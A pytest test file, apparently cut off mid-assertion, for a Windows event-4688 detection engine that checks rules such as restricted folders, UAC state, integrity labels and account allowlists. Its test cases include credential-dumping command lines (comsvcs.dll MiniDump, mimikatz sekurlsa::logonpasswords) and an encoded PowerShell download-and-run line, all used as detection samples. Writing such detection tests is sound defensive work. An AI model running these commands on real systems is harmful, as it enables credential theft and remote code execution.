"""Findings: every 4688 monitoring recommendation as a rule that fires, and does not fire, as
an analyst expects; the TOML rules file (overrides, refusals with line and reason); the CLI;
and the real attack logs."""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest

from core.findings.engine import Finding, findings_for_event, run_findings
from core.findings.rules import SPECS, RulesError, RuleSet, load_rules, parse_rules_text
from core.model.command_line import decoded_command_line
from core.model.event import Event, parse_time
from core.store.store import Store, StoredEvent

T0 = "2015-11-12T02:24:52.3773525Z"  # a Thursday
DOMAIN_SID = "S-1-5-21-1377283216-344919071-3415362939"

#: SYSTEM starting svchost.exe from services.exe, as on every Windows boot.
SYSTEM_SVCHOST: dict[str, str] = {
    "SubjectUserSid": "S-1-5-18",
    "SubjectUserName": "WS01$",
    "SubjectDomainName": "CONTOSO",
    "SubjectLogonId": "0x3e7",
    "NewProcessId": "0x2bc",
    "NewProcessName": "C:\\Windows\\System32\\svchost.exe",
    "TokenElevationType": "%%1936",
    "ProcessId": "0x270",
    "CommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
    "TargetUserSid": "S-1-0-0",
    "TargetUserName": "-",
    "TargetDomainName": "-",
    "TargetLogonId": "0x0",
    "ParentProcessName": "C:\\Windows\\System32\\services.exe",
    "MandatoryLabel": "S-1-16-16384",
}

#: A domain user starting rundll32 from explorer with UAC on (the 4688 page's own example).
USER_RUNDLL: dict[str, str] = {
    "SubjectUserSid": f"{DOMAIN_SID}-1104",
    "SubjectUserName": "dadmin",
    "SubjectDomainName": "CONTOSO",
    "SubjectLogonId": "0x4a5af0",
    "NewProcessId": "0x2bc",
    "NewProcessName": "C:\\Windows\\System32\\rundll32.exe",
    "TokenElevationType": "%%1938",
    "ProcessId": "0xe74",
    "CommandLine": "",
    "TargetUserSid": "S-1-0-0",
    "TargetUserName": "-",
    "TargetDomainName": "-",
    "TargetLogonId": "0x0",
    "ParentProcessName": "C:\\Windows\\explorer.exe",
    "MandatoryLabel": "S-1-16-8192",
}


def ev(
    base: dict[str, str] | None = None,
    *,
    eid: int = 4688,
    computer: str = "WS01.contoso.local",
    rid: int = 1,
    time: str = T0,
    **fields: str,
) -> Event:
    data = dict(base if base is not None else SYSTEM_SVCHOST)
    data.update(fields)
    return Event(
        source=0,
        record_number=rid,
        record_id=rid,
        filetime=parse_time(time),
        event_id=eid,
        channel="Security",
        provider="Microsoft-Windows-Security-Auditing",
        computer=computer,
        data=tuple(data.items()),
    )


@pytest.fixture(autouse=True)
def _no_user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Never read the developer's own rules.toml."""
    cfg = tmp_path / "config"
    monkeypatch.setenv("EVTX_EXPLORER_CONFIG_DIR", str(cfg))
    monkeypatch.setenv("EVTX_EXPLORER_CACHE_DIR", str(tmp_path / "cache"))
    return cfg


def defaults() -> RuleSet:
    return load_rules(None)


def fired(event: Event, rules: RuleSet | None = None) -> dict[str, Finding]:
    found = run_findings([StoredEvent(7, event)], rules or defaults())
    by_rule = {f.rule: f for f in found}
    assert len(by_rule) == len(found), "one finding per rule per event"
    return by_rule


def with_rules(toml: str) -> RuleSet:
    return parse_rules_text(toml, "test.toml")


# -- nothing on ordinary activity -------------------------------------------------------------


def test_system_svchost_raises_nothing() -> None:
    assert fired(ev()) == {}


def test_user_process_with_uac_on_raises_nothing() -> None:
    assert fired(ev(USER_RUNDLL)) == {}


def test_other_event_ids_are_not_looked_at_by_default() -> None:
    event = ev(USER_RUNDLL, eid=4624, NewProcessName="C:\\Users\\x\\Downloads\\mimikatz.exe")
    assert fired(event) == {}


def test_finding_carries_the_evidence_record() -> None:
    event = ev(USER_RUNDLL, rid=2814, NewProcessName="C:\\Tools\\x.exe")
    (f,) = run_findings([StoredEvent(42, event)], defaults())
    assert (f.rule, f.severity, f.store_id, f.record_id, f.event_id) == (
        "image-outside-standard-folders",
        "medium",
        42,
        2814,
        4688,
    )
    assert f.computer == "WS01.contoso.local" and f.time == parse_time(T0)
    assert ("NewProcessName", "C:\\Tools\\x.exe") in f.evidence
    assert "\n" not in f.message


# -- image folders ----------------------------------------------------------------------------


def test_image_outside_standard_folders() -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Tools\\nc.exe"))
    assert "image-outside-standard-folders" in f
    assert "C:\\Tools\\nc.exe is outside the standard folders" in f["image-outside-standard-folders"].message


def test_parent_image_outside_standard_folders() -> None:
    f = fired(ev(USER_RUNDLL, ParentProcessName="C:\\ProgramData\\x\\loader.exe"))
    assert f["image-outside-standard-folders"].message.startswith("ParentProcessName C:\\ProgramData\\x\\loader.exe")


@pytest.mark.parametrize(
    "image",
    [
        "C:\\Windows\\System32\\cmd.exe",
        "D:\\Windows\\SysWOW64\\cmd.exe",
        "c:\\program files\\Mozilla Firefox\\firefox.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe",
        "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe",
        "\\SystemRoot\\System32\\smss.exe",
    ],
)
def test_standard_folders_in_every_spelling(image: str) -> None:
    assert "image-outside-standard-folders" not in fired(ev(USER_RUNDLL, NewProcessName=image))


def test_kernel_pseudo_processes_are_not_paths() -> None:
    assert fired(ev(ParentProcessName="Registry")) == {}
    assert fired(ev(ParentProcessName="")) == {}


@pytest.mark.parametrize(
    ("image", "folder"),
    [
        ("C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe", "Temp"),
        ("C:\\Windows\\Temp\\svc.exe", "Temp"),
        ("C:\\Users\\bob\\Downloads\\setup.exe", "Downloads"),
        ("C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet Files\\x\\a.exe", "Temp"),
        ("C:\\Users\\Public\\a.exe", "Users\\Public"),
    ],
)
def test_image_in_restricted_folder(image: str, folder: str) -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName=image))
    assert f["image-in-restricted-folder"].severity == "high"
    assert f"restricted folder {folder}" in f["image-in-restricted-folder"].message


def test_windows_temp_is_restricted_though_windows_is_standard() -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\Temp\\svc.exe"))
    assert "image-in-restricted-folder" in f and "image-outside-standard-folders" not in f


def test_restricted_folder_needs_a_whole_folder_name() -> None:
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\System32\\TempFolderCleanup.exe"))
    assert "image-in-restricted-folder" not in f
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Program Files\\Contemporary\\app.exe"))
    assert "image-in-restricted-folder" not in f


def test_folder_lists_come_from_toml() -> None:
    rules = with_rules(
        "[rules.image-outside-standard-folders]\n"
        "standard_folders = ['\\Windows\\', 'E:\\Tools\\']\n"
        "[rules.image-in-restricted-folder]\n"
        "restricted_folders = ['\\Staging\\']\n"
    )
    f = fired(ev(USER_RUNDLL, NewProcessName="E:\\Tools\\nc.exe"), rules)
    assert "image-outside-standard-folders" not in f
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Tools\\nc.exe"), rules)
    assert "image-outside-standard-folders" in f  # drive-letter folders match that drive only
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Program Files\\x.exe"), rules)
    assert "image-outside-standard-folders" in f  # the list was replaced, not extended
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\Staging\\x.exe"), rules)
    assert "image-in-restricted-folder" in f
    f = fired(ev(USER_RUNDLL, NewProcessName="C:\\Windows\\Temp\\x.exe"), rules)
    assert "image-in-restricted-folder" not in f


# -- expected images --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "image",
    ["C:\\Windows\\svchost.exe", "C:\\Users\\Public\\lsass.exe", "C:\\Windows\\System32\\drivers\\svchost.exe"],
)
def test_known_name_at_unexpected_path(image: str) -> None:
    f = fired(ev(NewProcessName=image))
    assert f["unexpected-image-path"].severity == "high"
    assert "is expected at" in f["unexpected-image-path"].message


@pytest.mark.parametrize(
    "image",
    [
        "c:\\windows\\system32\\SVCHOST.EXE",
        "C:\\Windows\\SysWOW64\\svchost.exe",
        "D:\\Windows\\explorer.exe",
        "C:\\Tools\\unknown.exe",
    ],
)
def test_expected_path_or_unknown_name_is_fine(image: str) -> None:
    assert "unexpected-image-path" not in fired(ev(NewProcessName=image))


def test_expected_images_from_toml() -> None:
    rules = with_rules("[rules.unexpected-image-path.expected]\n'sqlservr.exe' = ['C:\\MSSQL\\Binn\\sqlservr.exe']\n")
    assert "unexpected-image-path" in fired(ev(NewProcessName="D:\\MSSQL\\Binn\\sqlservr.exe"), rules)
    assert "unexpected-image-path" not in fired(ev(NewProcessName="C:\\MSSQL\\Binn\\sqlservr.exe"), rules)
    # The map was replaced: svchost.exe is no longer checked.
    assert "unexpected-image-path" not in fired(ev(NewProcessName="C:\\Windows\\svchost.exe"), rules)


# -- restricted substrings --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "needle"),
    [
        ("NewProcessName", "C:\\Windows\\System32\\Mimikatz.exe", "'mimikatz' in NewProcessName"),
        ("ParentProcessName", "C:\\Windows\\cain.exe", "'cain.exe' in ParentProcessName"),
        ("CommandLine", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full", "minidump"),
        ("CommandLine", 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "'sekurlsa::' in CommandLine"),
    ],
)
def test_restricted_substring(field: str, value: str, needle: str) -> None:
    f = fired(ev(**{field: value}))
    assert needle in f["restricted-substring"].message
    assert (field, value) in f["restricted-substring"].evidence


def test_restricted_substring_inside_encoded_powershell() -> None:
    import base64

    payload = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('x/Invoke-Mimikatz.ps1')".encode("utf-16-le")
    )
    f = fired(ev(CommandLine=f"powershell.exe -nop -w hidden -enc {payload.decode()}"))
    assert "decoded from -EncodedCommand base64" in f["restricted-substring"].message
    off = with_rules("[rules.restricted-substring]\ndecode_command_line = false\n")
    assert "restricted-substring" not in fired(ev(CommandLine=f"powershell.exe -enc {payload.decode()}"), off)


def test_restricted_substring_not_on_near_misses_and_list_from_toml() -> None:
    assert "restricted-substring" not in fired(ev(NewProcessName="C:\\Windows\\System32\\mimi.exe"))
    rules = with_rules("[rules.restricted-substring]\nsubstrings = ['adfind']\nseverity = 'critical'\n")
    f = fired(ev(CommandLine="AdFind.exe -f objectcategory=computer"), rules)
    assert f["restricted-substring"].severity == "critical"
    assert "restricted-substring" not in fired(ev(NewProcessName="C:\\Windows\\mimikatz.exe"), rules)


# -- token elevation --------------------------------------------------------------------------


def test_full_token_for_real_user_means_uac_off() -> None:
    f = fired(ev(USER_RUNDLL, TokenElevationType="%%1936"))
    assert "UAC likely off" in f["uac-disabled"].message and "CONTOSO\\dadmin" in f["uac-disabled"].message


@pytest.mark.parametrize(
    ("sid", "name", "domain"),
    [
        ("S-1-5-18", "WS01$", "CONTOSO"),
        ("S-1-5-19", "LOCAL SERVICE", "NT AUTHORITY"),
        ("S-1-5-20", "NETWORK SERVICE", "NT AUTHORITY"),
        ("S-1-5-90-0-1", "DWM-1", "Window Manager"),
    ],
)
def test_full_token_for_system_and_services_is_normal(sid: str, name: str, domain: str) -> None:
    event = ev(SubjectUserSid=sid, SubjectUserName=name, SubjectDomainName=domain)
    assert "uac-disabled" not in fired(event)


def test_full_token_checks_the_account_the_process_runs_as() -> None:
    # SYSTEM creates a process for another logon (WMI, psexec): the Target Subject is the owner.
    event = ev(TargetUserSid="S-1-0-0", TargetUserName="admmig", TargetDomainName="CONTOSO", TargetLogonId="0x266e045")
    f = fired(event)
    assert "CONTOSO\\admmig (Target Subject)" in f["uac-disabled"].message


def test_full_token_for_built_in_administrator_says_so_and_can_be_excluded() -> None:
    event = ev(
        USER_RUNDLL, TokenElevationType="%%1936", SubjectUserSid=f"{DOMAIN_SID}-500", SubjectUserName="Administrator"
    )
    assert "built-in Administrator" in fired(event)["uac-disabled"].message
    rules = with_rules("[rules.uac-disabled]\nexclude_accounts = ['S-1-5-21-*-500']\n")
    assert "uac-disabled" not in fired(event, rules)


def test_elevated_token_for_real_user_on_workstation() -> None:
    f = fired(ev(USER_RUNDLL, TokenElevationType="%%1937", MandatoryLabel="S-1-16-12288"))
    assert "as administrator" in f["run-as-administrator"].message
    assert f["run-as-administrator"].severity == "low"
    assert "uac-disabled" not in f


def test_elevated_token_only_on_listed_workstations() -> None:
    rules = with_rules("[rules.run-as-administrator]\nworkstations = ['WS*']\nexclude_computers = ['WS99*']\n")
    assert "run-as-administrator" in fired(ev(USER_RUNDLL, TokenElevationType="%%1937"), rules)
    on_server = ev(USER_RUNDLL, TokenElevationType="%%1937", computer="SRV01.contoso.local")
    assert "run-as-administrator" not in fired(on_server, rules)
    excluded = ev(USER_RUNDLL, TokenElevationType="%%1937", computer="WS99.contoso.local")
    assert "run-as-administrator" not in fired(excluded, rules)


def test_elevated_token_for_machine_account_is_not_run_as_admin() -> None:
    assert "run-as-administrator" not in fired(ev(TokenElevationType="%%1937"))


def test_elevated_token_for_another_computers_account() -> None:
    f = fired(ev(TokenElevationType="%%1937", SubjectUserName="WS02$", SubjectUserSid=f"{DOMAIN_SID}-1201"))
    rule = f["elevated-foreign-computer-account"]
    assert rule.severity == "high" and "CONTOSO\\WS02$" in rule.message and "another computer" in rule.message


def test_elevated_token_for_own_computer_account_is_fine() -> None:
    assert "elevated-foreign-computer-account" not in fired(ev(TokenElevationType="%%1937"))
    # NetBIOS names are cut at 15 characters: LONGHOSTNAME-01$ is longhostname-012345's own account.
    event = ev(
        TokenElevationType="%%1937", SubjectUserName="LONGHOSTNAME-01$", computer="longhostname-012345.contoso.local"
    )
    assert "elevated-foreign-computer-account" not in fired(event)
    # Full tokens are not this rule's business.
    assert "elevated-foreign-computer-account" not in fired(ev(SubjectUserName="WS02$"))


# -- mandatory labels -------------------------------------------------------------------------


def test_mandatory_label_of_interest() -> None:
    f = fired(ev(MandatoryLabel="S-1-16-20480"))
    assert "S-1-16-20480 (Protected Process" in f["mandatory-label-of-interest"].message
    assert "mandatory-label-of-interest" not in fired(ev(MandatoryLabel="S-1-16-16384"))
    rules = with_rules("[rules.mandatory-label-of-interest]\nlabels = ['S-1-16-16384']\n")
    assert "mandatory-label-of-interest" in fired(ev(MandatoryLabel="S-1-16-16384"), rules)


def _chain(*events: Event) -> list[StoredEvent]:
    return [StoredEvent(i + 1, e) for i, e in enumerate(events)]


def _parent(label: str, pid: str = "0x0000000000000e74", **kw: Any) -> Event:
    return ev(
        USER_RUNDLL,
        rid=kw.pop("rid", 1),
        time=kw.pop("time", "2015-11-12T02:20:00Z"),
        NewProcessId=pid,
        ProcessId="0x100",
        NewProcessName="C:\\Windows\\explorer.exe",
        MandatoryLabel=label,
        **kw,
    )


def _child(label: str, ppid: str = "0xe74", **kw: Any) -> Event:
    return ev(
        USER_RUNDLL,
        rid=kw.pop("rid", 3),
        time=kw.pop("time", T0),
        ProcessId=ppid,
        MandatoryLabel=label,
        TokenElevationType="%%1938",
        **kw,
    )


def _above(events: list[StoredEvent]) -> list[Finding]:
    return [f for f in run_findings(events, defaults()) if f.rule == "mandatory-label-above-parent"]


def test_label_above_the_parents() -> None:
    (f,) = _above(_chain(_parent("S-1-16-8192"), _child("S-1-16-16384")))
    assert f.store_id == 2 and f.related_store_id == 1 and f.record_id == 3
    assert "System integrity" in f.message and "above its parent C:\\Windows\\explorer.exe" in f.message
    assert "Medium integrity" in f.message and "parent record 1" in f.message


def test_label_not_above_the_parents() -> None:
    assert _above(_chain(_parent("S-1-16-12288"), _child("S-1-16-12288"))) == []
    assert _above(_chain(_parent("S-1-16-16384"), _child("S-1-16-8192"))) == []


def test_label_parent_must_be_on_the_same_computer() -> None:
    other = _parent("S-1-16-4096", computer="WS02.contoso.local")
    assert _above(_chain(other, _child("S-1-16-16384"))) == []


def test_label_parent_ended_by_4689_is_not_the_parent() -> None:
    exit_ = ev(
        {"ProcessId": "0xe74", "ProcessName": "C:\\Windows\\explorer.exe"}, eid=4689, rid=2, time="2015-11-12T02:22:00Z"
    )
    assert _above(_chain(_parent("S-1-16-8192"), exit_, _child("S-1-16-16384"))) == []


def test_label_uses_the_nearest_preceding_4688_of_a_reused_pid() -> None:
    older = _parent("S-1-16-4096", rid=1, time="2015-11-12T02:00:00Z")
    newer = _parent("S-1-16-16384", rid=2, time="2015-11-12T02:10:00Z")
    assert _above(_chain(older, newer, _child("S-1-16-16384"))) == []
    older = _parent("S-1-16-16384", rid=1, time="2015-11-12T02:00:00Z")
    newer = _parent("S-1-16-4096", rid=2, time="2015-11-12T02:10:00Z")
    (f,) = _above(_chain(older, newer, _child("S-1-16-8192")))
    assert f.related_store_id == 2 and "parent record 2" in f.message


def test_label_ignore_images_from_toml() -> None:
    rules = with_rules("[rules.mandatory-label-above-parent]\nignore_images = ['*\\rundll32.exe']\n")
    events = _chain(_parent("S-1-16-8192"), _child("S-1-16-16384"))
    assert [f for f in run_findings(events, rules) if f.rule == "mandatory-label-above-parent"] == []


def _store(tmp_path: Path, events: list[Event]) -> tuple[Store, list[StoredEvent]]:
    store = Store(tmp_path / "events.sqlite")
    store.add_source("test.xml", "xml")
    store.add_events(events)
    store.build_indexes()
    return store, list(store.iter_events())


def test_findings_for_event_matches_the_streaming_engine(tmp_path: Path) -> None:
    store, stored = _store(tmp_path, [_parent("S-1-16-8192"), _child("S-1-16-16384")])
    child = stored[1]
    streamed = [f for f in run_findings(stored, defaults()) if f.store_id == child.id]
    single = findings_for_event(child, defaults(), store)
    assert single == streamed
    assert {f.rule for f in single} == {"mandatory-label-above-parent"}
    # Without the store the parent cannot be found: that rule alone is skipped.
    assert findings_for_event(child, defaults()) == []
    store.close()


def test_findings_for_event_sees_the_parents_exit(tmp_path: Path) -> None:
    exit_ = ev({"ProcessId": "0x0000000000000e74"}, eid=4689, rid=2, time="2015-11-12T02:22:00Z")
    store, stored = _store(tmp_path, [_parent("S-1-16-8192"), exit_, _child("S-1-16-16384")])
    assert findings_for_event(stored[2], defaults(), store) == []
    assert findings_for_event(stored[0], defaults(), store) == []
    store.close()


# -- accounts ---------------------------------------------------------------------------------


def test_high_value_account_by_default_is_the_built_in_administrator() -> None:
    event = ev(USER_RUNDLL, SubjectUserSid=f"{DOMAIN_SID}-500", SubjectUserName="Administrator")
    assert "High-value account CONTOSO\\Administrator" in fired(event)["high-value-account"].message
    assert "high-value-account" not in fired(ev(USER_RUNDLL))


def test_high_value_accounts_from_toml_match_names_domains_and_sids() -> None:
    rules = with_rules("[rules.high-value-account]\naccounts = ['CONTOSO\\dadmin', 'svc_sql*']\nseverity = 'high'\n")
    assert fired(ev(USER_RUNDLL), rules)["high-value-account"].severity == "high"
    assert "high-value-account" in fired(ev(USER_RUNDLL, SubjectUserName="SVC_SQL01"), rules)
    assert "high-value-account" not in fired(ev(USER_RUNDLL, SubjectDomainName="FABRIKAM"), rules)


def test_inactive_accounts() -> None:
    guest = ev(USER_RUNDLL, SubjectUserSid=f"{DOMAIN_SID}-501", SubjectUserName="Guest")
    assert fired(guest)["inactive-account"].severity == "high"
    by_target = ev(TargetUserSid="S-1-0-0", TargetUserName="krbtgt", TargetDomainName="CONTOSO")
    assert "as Target Subject" in fired(by_target)["inactive-account"].message
    assert "inactive-account" not in fired(ev(USER_RUNDLL))


ALLOWLIST = """
[[rules.account-not-allowlisted.allowlists]]
name = "AD database tools"
images = ['*\\ntdsutil.exe']
accounts = ['CONTOSO\\dadmin']
"""


def test_account_outside_allowlist() -> None:
    rules = with_rules(ALLOWLIST)
    tool = "C:\\Windows\\System32\\ntdsutil.exe"
    assert "account-not-allowlisted" not in fired(ev(USER_RUNDLL, NewProcessName=tool), rules)
    f = fired(ev(USER_RUNDLL, NewProcessName=tool, SubjectUserName="bob"), rules)
    assert "(AD database tools) started by CONTOSO\\bob" in f["account-not-allowlisted"].message
    assert "account-not-allowlisted" not in fired(ev(USER_RUNDLL, SubjectUserName="bob"), rules)
    assert "account-not-allowlisted" not in fired(ev(USER_RUNDLL, NewProcessName=tool, SubjectUserName="bob"))


def test_account_of_unexpected_type() -> None:
    rules = with_rules(
        "[[rules.unexpected-account-type.account_types_by_image]]\n"
        "images = ['*\\powershell.exe']\nallowed_types = ['domain-user']\n"
    )
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    f = fired(ev(NewProcessName=ps), rules)
    assert "CONTOSO\\WS01$ (S-1-5-18) (machine)" in f["unexpected-account-type"].message
    assert "unexpected-account-type" not in fired(ev(USER_RUNDLL, NewProcessName=ps), rules)
    local = ev(USER_RUNDLL, NewProcessName=ps, SubjectDomainName="WS01")
    assert "(local-user)" in fired(local, rules)["unexpected-account-type"].message


@pytest.mark.parametrize("name", ["John Smith", "a" * 21, "adm\u0456n", "-dash"])
def test_account_naming_convention_breakers(name: str) -> None:
    f = fired(ev(USER_RUNDLL, SubjectUserName=name))
    assert "breaks the naming convention" in f["account-naming-convention"].message


def test_account_naming_convention_keepers_and_pattern_from_toml() -> None:
    assert "account-naming-convention" not in fired(ev(USER_RUNDLL, SubjectUserName="j.smith-2"))
    assert "account-naming-convention" not in fired(ev(SubjectUserName="A-VERY-LONG-MACHINE-NAME$"))
    rules = with_rules("[rules.account-naming-convention]\npattern = '(adm|usr)_[a-z]+'\n")
    assert "account-naming-convention" in fired(ev(USER_RUNDLL), rules)
    assert "account-naming-convention" not in fired(ev(USER_RUNDLL, SubjectUserName="adm_dave"), rules)


def test_foreign_domain_account() -> None:
    f = fired(ev(USER_RUNDLL, SubjectDomainName="FABRIKAM"))
    assert "FABRIKAM\\dadmin" in f["foreign-domain-account"].message
    # The computer's own domain in NetBIOS or DNS form is home.
    assert "foreign-domain-account" not in fired(ev(USER_RUNDLL, SubjectDomainName="contoso.local"))
    assert "foreign-domain-account" not in fired(ev(USER_RUNDLL))
    # No DNS suffix and no list: we cannot tell, so we do not guess.
    assert "foreign-domain-account" not in fired(ev(USER_RUNDLL, SubjectDomainName="FABRIKAM", computer="WS01"))
    rules = with_rules("[rules.foreign-domain-account]\nallowed_domains = ['fabrikam.com']\n")
    assert "foreign-domain-account" not in fired(ev(USER_RUNDLL, SubjectDomainName="FABRIKAM"), rules)
    assert "foreign-domain-account" in fired(ev(USER_RUNDLL, SubjectDomainName="NORTHWIND"), rules)


def test_local_account_running_a_process() -> None:
    f = fired(ev(USER_RUNDLL, SubjectDomainName="WS01", SubjectUserName="helpdesk"))
    assert "Local account WS01\\helpdesk" in f["local-account-process"].message
    assert "foreign-domain-account" not in f
    assert "local-account-process" not in fired(ev(USER_RUNDLL))
    assert "local-account-process" not in fired(ev())  # the machine account is not a local user


def test_restricted_computers() -> None:
    rules = with_rules(
        "[[rules.restricted-computer.restricted]]\nname = 'CEO laptop'\n"
        "computers = ['CEO-*']\naccounts = ['CONTOSO\\*adm*']\n"
    )
    on_ceo = ev(USER_RUNDLL, computer="CEO-LAPTOP.contoso.local")
    assert (
        "acted on restricted computer CEO-LAPTOP.contoso.local (CEO laptop)"
        in fired(on_ceo, rules)["restricted-computer"].message
    )
    assert "restricted-computer" not in fired(ev(USER_RUNDLL), rules)
    assert "restricted-computer" not in fired(ev(USER_RUNDLL, SubjectUserName="bob", computer="CEO-1"), rules)


def test_outside_working_hours_is_off_by_default_and_follows_the_time_zone() -> None:
    assert "outside-working-hours" not in fired(ev(USER_RUNDLL))
    utc = with_rules("[rules.outside-working-hours]\nenabled = true\n")
    f = fired(ev(USER_RUNDLL), utc)  # Thursday 02:24 UTC
    assert "outside working hours (mon-tue-wed-thu-fri 07:00-19:00)" in f["outside-working-hours"].message
    tokyo = with_rules("[rules.outside-working-hours]\nenabled = true\ntimezone = 'Asia/Tokyo'\n")
    assert "outside-working-hours" not in fired(ev(USER_RUNDLL), tokyo)  # 11:24 in Tokyo
    saturday = ev(USER_RUNDLL, time="2015-11-14T03:00:00Z")
    assert "outside-working-hours" in fired(saturday, tokyo)
    assert "outside-working-hours" not in fired(ev(time="2015-11-14T03:00:00Z"), tokyo)  # SYSTEM


def test_account_rules_can_watch_other_event_ids() -> None:
    rules = with_rules("[rules.inactive-account]\nevent_ids = [4624, 4688]\n")
    logon = ev({"TargetUserSid": f"{DOMAIN_SID}-501", "TargetUserName": "Guest", "TargetDomainName": "WS01"}, eid=4624)
    assert "inactive-account" in fired(logon, rules)
    assert "inactive-account" not in fired(logon)


def test_disabled_rule_does_not_fire() -> None:
    rules = with_rules("[rules.image-outside-standard-folders]\nenabled = false\n")
    assert "image-outside-standard-folders" not in fired(ev(USER_RUNDLL, NewProcessName="C:\\Tools\\nc.exe"), rules)


def test_every_rule_has_tests_that_fire_it() -> None:
    """Guard: a rule added to SPECS without a firing test here fails this list."""
    tested = {
        "image-outside-standard-folders",
        "image-in-restricted-folder",
        "unexpected-image-path",
        "restricted-substring",
        "uac-disabled",
        "run-as-administrator",
        "elevated-foreign-computer-account",
        "mandatory-label-of-interest",
        "mandatory-label-above-parent",
        "high-value-account",
        "inactive-account",
        "account-not-allowlisted",
        "unexpected-account-type",
        "account-naming-convention",
        "foreign-domain-account",
        "local-account-process",
        "restricted-computer",
        "outside-working-hours",
    }
    assert set(SPECS) == tested


# -- the rules file ---------------------------------------------------------------------------


def test_defaults_load_and_cover_every_rule() -> None:
    rules = defaults()
    assert [r.id for r in rules.rules] == list(SPECS)
    assert rules.sources == ("built-in",)
    assert all(r.title and r.severity in ("info", "low", "medium", "high", "critical") for r in rules.rules)
    assert "mimikatz" in rules.get("restricted-substring").strs("substrings")
    assert "cain.exe" in rules.get("restricted-substring").strs("substrings")


def test_user_config_file_is_used_when_no_rules_option(_no_user_config: Path, tmp_path: Path) -> None:
    _no_user_config.mkdir()
    (_no_user_config / "rules.toml").write_text("[rules.local-account-process]\nseverity = 'critical'\n")
    rules = load_rules(None)
    assert rules.get("local-account-process").severity == "critical"
    assert rules.sources == ("built-in", str(_no_user_config / "rules.toml"))
    explicit = tmp_path / "mine.toml"
    explicit.write_text("[rules.local-account-process]\nseverity = 'info'\n")
    assert load_rules(explicit).get("local-account-process").severity == "info"


def test_override_is_key_by_key() -> None:
    rules = with_rules("[rules.restricted-substring]\nseverity = 'critical'\n")
    rule = rules.get("restricted-substring")
    assert rule.severity == "critical" and "mimikatz" in rule.strs("substrings")


@pytest.mark.parametrize(
    ("text", "line", "reason"),
    [
        ("[rules.uac-disabled]\nseverity = 'high\n", 2, "TOML syntax error"),
        ("[rules.uac-disabled]\nseverity = = 'high'\n", 2, "TOML syntax error: Invalid value (column 12)"),
        ("[rules.uac-disabled]\nseverity = 'high'\nseverty = 'low'\n", 3, "unknown key 'severty'"),
        ("# mine\n\n[rules.uac-disabld]\nseverity = 'high'\n", 3, "unknown rule 'uac-disabld'"),
        ("[rules.high-value-account]\naccounts = 'Administrator'\n", 2, "must be a list"),
        ("[rules.restricted-substring]\n\nsubstrings = ['a', 1]\n", 3, "a list of strings"),
        ("[rules.uac-disabled]\nenabled = 'yes'\n", 2, "must be true or false"),
        ("[rules.uac-disabled]\nseverity = 'urgent'\n", 2, "one of info, low, medium, high, critical"),
        ("[rules.account-naming-convention]\npattern = '[a-z'\n", 2, "bad regular expression '[a-z'"),
        ("[rules.outside-working-hours]\ntimezone = 'Mars/Olympus'\n", 2, "unknown time zone"),
        ("[rules.outside-working-hours]\nstart = '25:00'\n", 2, 'a time "HH:MM"'),
        ("[rules.foreign-domain-account]\naccount_types = ['human']\n", 2, "unknown account type 'human'"),
        ("[rules.local-account-process]\nevent_ids = ['4688']\n", 2, "a list of integers"),
        ("title = 'x'\n", 1, "unknown top-level key 'title'"),
        (
            "[[rules.restricted-computer.restricted]]\ncomputers = ['X']\nacounts = ['y']\n",
            3,
            "unknown key 'acounts'",
        ),
        ("[[rules.restricted-computer.restricted]]\ncomputers = ['X']\n", 1, "lacks accounts"),
    ],
)
def test_bad_rules_files_are_refused_with_line_and_reason(tmp_path: Path, text: str, line: int, reason: str) -> None:
    path = tmp_path / "rules.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(RulesError) as info:
        load_rules(path)
    assert info.value.line == line, str(info.value)
    assert reason in info.value.reason
    assert str(info.value).startswith(f"{path}:{line}: ")


def test_unreadable_rules_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match="cannot read rules file"):
        load_rules(tmp_path / "missing.toml")


def test_bad_user_config_file_is_refused_too(_no_user_config: Path) -> None:
    _no_user_config.mkdir()
    (_no_user_config / "rules.toml").write_text("[rules.nope]\n")
    with pytest.raises(RulesError, match="unknown rule 'nope'"):
        load_rules(None)


# -- the CLI ----------------------------------------------------------------------------------


def run_cli(*argv: str) -> tuple[int, str, str]:
    from cli.main import main

    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        status = main(list(argv))
    return status, out.getvalue(), err.getvalue()


@pytest.fixture()
def attack_log(tmp_path: Path) -> Path:
    from tests.logs import event_xml, write_events

    return write_events(
        tmp_path / "sec.xml",
        [
            event_xml(4688, 2814, T0, SYSTEM_SVCHOST),
            event_xml(
                4688,
                2815,
                "2015-11-12T02:25:00Z",
                {
                    **USER_RUNDLL,
                    "NewProcessName": "C:\\Users\\dadmin\\Downloads\\mimikatz.exe",
                    "CommandLine": "mimikatz.exe \x1b[31m sekurlsa::logonpasswords",
                },
            ),
            event_xml(4624, 2816, "2015-11-12T02:26:00Z", {"TargetUserName": "bob", "LogonType": "2"}),
        ],
    )


def test_cli_findings_json(attack_log: Path) -> None:
    status, out, err = run_cli("findings", "--json", str(attack_log))
    assert status == 0, err
    found = json.loads(out)
    assert {f["rule"] for f in found} == {
